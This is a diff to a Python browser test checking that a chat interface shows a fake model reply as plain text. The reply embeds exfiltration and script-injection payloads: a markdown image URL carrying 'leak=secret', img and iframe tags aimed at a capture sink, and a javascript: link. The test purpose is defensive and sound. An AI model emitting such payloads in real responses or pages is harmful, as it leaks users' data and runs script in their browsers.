@@ -260,8 +260,8 @@ def test_model_output_is_inert_while_streaming_and_after(tmp_path_factory):
     from .fake_llm import FakeLLM
 
     sink = _Sink()
-    reply = (f"黄仁勋[1] ![t]({sink.url}/md.png?leak=secret) <img src=\"{sink.url}/raw.png\"> "
-             f"<iframe src=\"{sink.url}/frame\"></iframe> [点我](javascript:window.__pwned=1) "
+    reply = (f"黄仁勋[1] [点我](javascript:window.__pwned=1) ![t]({sink.url}/md.png?leak=secret) "
+             f"<img src=\"{sink.url}/raw.png\"> <iframe src=\"{sink.url}/frame\"></iframe> "
              f"<a href=\"{sink.url}/a\">链接</a> 结束。")
     root = tmp_path_factory.mktemp("inert")
     try:
@@ -288,7 +288,9 @@ def test_model_output_is_inert_while_streaming_and_after(tmp_path_factory):
                 text = page.locator("#chat").inner_text()
                 assert "![t](" in text and "<img" in text  # shown as the text it is
                 assert seen == 0 and page.locator(elements).count() == 0
-                assert page.evaluate("window.__pwned") is None
+                page.locator("#chat").get_by_text("点我").last.click()  # what a reader would click
+                time.sleep(0.3)
+                assert page.evaluate("window.__pwned") is None and page.url.startswith(url)
                 browser.close()
     finally:
         sink.close()
